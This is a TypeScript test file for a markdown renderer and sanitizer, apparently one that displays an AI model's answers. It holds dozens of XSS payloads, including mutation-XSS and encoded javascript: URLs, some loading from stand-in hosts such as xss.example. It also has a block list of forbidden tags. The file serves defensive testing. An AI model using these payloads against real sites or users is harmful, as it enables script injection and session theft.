// The markdown renderer and its sanitizer, in jsdom: real XSS payloads (as markdown and as raw HTML) must come out
// with no executable or loading content; ordinary answers keep their structure and code blocks their language.
import assert from 'node:assert/strict';
import { JSDOM } from 'jsdom';
import { MarkdownRenderer, StreamingMarkdown } from '../../../src/assist/markdownRender';

const dom = new JSDOM('<!DOCTYPE html><body></body>');
const renderer = new MarkdownRenderer(dom.window);

const FORBIDDEN_TAGS = new Set([
  'script',
  'iframe',
  'frame',
  'frameset',
  'object',
  'embed',
  'applet',
  'form',
  'input',
  'button',
  'textarea',
  'select',
  'style',
  'link',
  'meta',
  'base',
  'svg',
  'math',
  'img',
  'video',
  'audio',
  'source',
  'template',
  'noscript',
  'xmp',
  'noembed',
  'marquee',
  'isindex',
  'portal',
  'animate',
  'set',
  'use',
  'foreignobject',
]);
const ALLOWED_ATTRS = new Set(['href', 'title', 'class', 'data-block', 'start', 'align', 'rel']);

/** Every way the HTML could run or load something, found by parsing it as the webview would. */
function dangers(html: string): string[] {
  const found: string[] = [];
  // jsdom runs no scripts by default, so parsing hostile HTML here is inert.
  const root = dom.window.document.createElement('div');
  root.innerHTML = html;
  for (const node of Array.from(root.querySelectorAll('*'))) {
    const tag = node.localName.toLowerCase();
    if (FORBIDDEN_TAGS.has(tag)) found.push(`<${tag}>`);
    if (node.namespaceURI !== 'http://www.w3.org/1999/xhtml') found.push(`foreign ${tag}`);
    for (const attr of Array.from(node.attributes)) {
      const name = attr.name.toLowerCase();
      if (!ALLOWED_ATTRS.has(name)) found.push(`${tag}[${name}]`);
      if (name === 'href' && !/^(?:https?:|mailto:)/i.test(attr.value.trim()))
        found.push(`href=${attr.value}`);
      if (name === 'data-block' && !/^\d+$/.test(attr.value)) found.push(`data-block=${attr.value}`);
      if (
        name === 'class' &&
        !attr.value.split(/\s+/).every((c) => /^(?:language-[a-z0-9+#-]+|tok-[ckns]|code-block)$/.test(c))
      ) {
        found.push(`class=${attr.value}`);
      }
    }
  }
  return found;
}

function assertSafe(html: string, label: string): void {
  assert.deepEqual(dangers(html), [], `${label}: ${html}`);
  // Mutation XSS: what is safe once must stay safe when the browser parses and serializes it again.
  const holder = dom.window.document.createElement('div');
  holder.innerHTML = html;
  const reparsed = holder.innerHTML;
  assert.deepEqual(dangers(reparsed), [], `${label} (reparsed): ${reparsed}`);
}

// Payloads from public XSS cheat sheets and DOMPurify's own bypass history.
const PAYLOADS: string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0nMScgb25lcnJvcj0nYWxlcnQoMSknLz48L3N2Zz4#x"></use></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math><mi xlink:href="javascript:alert(1)">click</mi></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">click</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">click</a>',
  '<a href="jav&#x09;ascript:alert(1)">click</a>',
  '<a href=" &#14;  javascript:alert(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '<a href="https://ok.example" onclick="alert(1)" onmouseover="alert(2)">ok</a>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="width: expression(alert(1))">x</div>',
  '<style>@import "http://evil.example/x.css";</style>',
  '<link rel="stylesheet" href="http://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<button formaction="javascript:alert(1)">go</button>',
  '<video><source onerror="alert(1)"></video>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<p id="</p><img src=x onerror=alert(1)>">x</p>',
  '<div data-foo="x" aria-label="y" onpointerenter=alert(1)>x</div>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<pre data-block="1 onmouseover=alert(1)" class="code-block x onerror"><code>x</code></pre>',
];

// The same attacks written as markdown, which must not produce them either.
const MARKDOWN_PAYLOADS: string[] = [
  '[click](javascript:alert(1))',
  '[click](JAVASCRIPT:alert(1))',
  '[click](&#106;avascript:alert(1))',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '![x](javascript:alert(1))',
  '![x](https://tracker.example/pixel.png)',
  '[a](https://ok.example "title\\" onmouseover=\\"alert(1)")',
  '<https://ok.example/"onmouseover="alert(1)>',
  '[ref]\n\n[ref]: javascript:alert(1)',
  '```js" onload="alert(1)\nconsole.log(1)\n```',
  '```<img src=x onerror=alert(1)>\nx\n```',
  'Inline <img src=x onerror=alert(1)> html and <script>alert(1)</script>',
  '<details><summary>x</summary><img src=x onerror=alert(1)></details>',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  '> <iframe src=javascript:alert(1)>',
];

describe('markdown rendering', () => {
  it('uses a checker that does flag every payload when nothing sanitizes it', () => {
    // A nested <body> is dropped by the HTML parser itself, before any sanitizer sees it.
    for (const payload of PAYLOADS.filter((p) => !p.startsWith('<body')))
      assert.notDeepEqual(dangers(payload), [], payload);
  });

  it(`has at least 30 raw HTML payloads and each is neutralised by the sanitizer`, () => {
    assert.ok(PAYLOADS.length >= 30);
    for (const payload of PAYLOADS) assertSafe(renderer.sanitize(payload), payload);
  });

  it('renders every payload as markdown without executable content', () => {
    for (const payload of [...PAYLOADS, ...MARKDOWN_PAYLOADS])
      assertSafe(renderer.render(payload).html, payload);
  });

  it('shows raw HTML from the model as text instead of dropping it', () => {
    const html = renderer.render('Use <b>bold</b> carefully').html;
    assert.match(html, /&lt;b&gt;bold&lt;\/b&gt;/);
  });

  it('keeps web links and removes others', () => {
    const html = renderer.render('[docs](https://example.com/a?b=1) and [bad](javascript:alert(1))').html;
    assert.match(html, /<a href="https:\/\/example\.com\/a\?b=1" rel="noopener noreferrer">docs<\/a>/);
    assert.match(html, /<a rel="noopener noreferrer">bad<\/a>/);
  });

  it('gives code blocks an index, a language class and highlighting built from escaped text', () => {
    const { html, codeBlocks } = renderer.render(
      'Intro\n\n```ts\nconst s = "<script>";\n```\n\n```\nplain\n```',
    );
    assert.deepEqual(codeBlocks, [
      { index: 0, language: 'ts', code: 'const s = "<script>";' },
      { index: 1, language: '', code: 'plain' },
    ]);
    assert.match(
      html,
      /<pre class="code-block" data-block="0"><code class="language-ts"><span class="tok-k">const<\/span> s = <span class="tok-s">"&lt;script&gt;"<\/span>;<\/code><\/pre>/,
    );
    assert.match(html, /<pre class="code-block" data-block="1"><code>plain<\/code><\/pre>/);
  });

  it('renders tables, lists and task lists without form controls', () => {
    const html = renderer.render('- [x] done\n- [ ] todo\n\n| a | b |\n|:-|-:|\n| 1 | 2 |').html;
    assert.match(html, /<li>\[x\] done<\/li>/);
    assert.match(html, /<th align="left">a<\/th>/);
    assertSafe(html, 'tables');
  });

  it('streams to the same HTML as a full render, rendering each completed block once', () => {
    const answer = [
      '# Plan',
      '',
      'First paragraph with `code`.',
      '',
      '```python',
      'def f(x):',
      '    return x * 2  # double',
      '```',
      '',
      '1. one',
      '2. two',
      '',
      '| a | b |',
      '|---|---|',
      '| 1 | 2 |',
      '',
      'Last words.',
    ].join('\n');
    const streaming = new StreamingMarkdown(renderer);
    let stable = '';
    const blocks: number[] = [];
    const step = (prefix: string): void => {
      const update = streaming.update(prefix);
      for (const done of update.completed) {
        stable += done.html;
        blocks.push(...done.codeBlocks.map((b) => b.index));
      }
      // At every step, what the page shows is exactly what a full render of the text so far would show.
      assert.equal(
        stable + update.live.html,
        renderer.render(prefix).html,
        `after ${prefix.length} characters`,
      );
    };
    for (let end = 1; end <= answer.length; end += 3) step(answer.slice(0, end));
    step(answer);
    assert.deepEqual(blocks, [0]);
  });

  it('finishes a streamed answer with only its last blocks, together making the full render', () => {
    const answer = [
      'Intro.',
      '',
      '```ts',
      'const a = 1;',
      '```',
      '',
      '- one',
      '- two',
      '',
      '```go',
      'x := 2',
      '```',
      '',
      'The last paragraph, still live when the stream ends.',
    ].join('\n');
    const streaming = new StreamingMarkdown(renderer);
    let shown = '';
    const indices: number[] = [];
    const take = (parts: { html: string; codeBlocks: { index: number }[] }[]): void => {
      for (const part of parts) {
        shown += part.html;
        indices.push(...part.codeBlocks.map((b) => b.index));
      }
    };
    for (let end = 5; end < answer.length; end += 7) take(streaming.update(answer.slice(0, end)).completed);
    const before = shown;
    const last = streaming.finish(answer);
    take(last);
    // What was appended while streaming is kept as it is; the finish only adds to it.
    assert.ok(shown.startsWith(before));
    assert.match(last.map((p) => p.html).join(''), /still live when the stream ends/);
    assert.doesNotMatch(last.map((p) => p.html).join(''), /Intro/);
    assert.equal(shown, renderer.render(answer).html);
    // Each code block is handed to the page exactly once, so each gets one set of buttons.
    assert.deepEqual(indices, [0, 1]);
  });

  it('finishes an answer that ended inside a code block, with the block and its buttons', () => {
    const answer = 'Here:\n\n```python\nprint(1)\n';
    const streaming = new StreamingMarkdown(renderer);
    streaming.update(answer.slice(0, 8));
    const last = streaming.finish(answer);
    assert.deepEqual(
      last.flatMap((p) => p.codeBlocks),
      [{ index: 0, language: 'python', code: 'print(1)' }],
    );
  });

  it('sanitizes the last block of a finished answer like every streamed one', () => {
    for (const payload of [...PAYLOADS, ...MARKDOWN_PAYLOADS]) {
      const answer = `A first paragraph.\n\n${payload}`;
      const streaming = new StreamingMarkdown(renderer);
      streaming.update(answer.slice(0, 20));
      const last = streaming.finish(answer);
      assert.ok(last.length > 0, payload);
      for (const part of last) assertSafe(part.html, payload);
    }
  });

  it('adds no empty part when an answer ends with no text, as a blocked or failed one does', () => {
    assert.deepEqual(new StreamingMarkdown(renderer).finish(''), []);
    assert.deepEqual(new StreamingMarkdown(renderer).finish('\n\n'), []);
  });
});
